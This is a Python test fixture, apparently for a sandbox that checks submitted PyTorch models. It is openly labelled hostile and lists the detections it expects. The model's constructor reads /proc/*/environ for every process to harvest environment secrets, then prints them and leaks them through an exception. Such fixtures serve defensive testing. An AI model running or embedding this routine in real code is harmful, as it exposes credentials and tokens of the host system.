# ruff: noqa  (hostile test data, deliberately bad code)
# attempts: scan /proc/*/environ for the parent's secrets and print them
# expect-static: forbidden_import,forbidden_call
# expect-runtime: build_failed,ok
import torch
import os
from torch import nn


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.fc = nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])
        found = []
        for pid in os.listdir("/proc"):
            try:
                found.append(open("/proc/" + pid + "/environ", "rb").read())
            except OSError:
                pass
        print(found)
        raise ValueError(str(found))

    def forward(self, x):
        return self.fc(x.flatten(1))
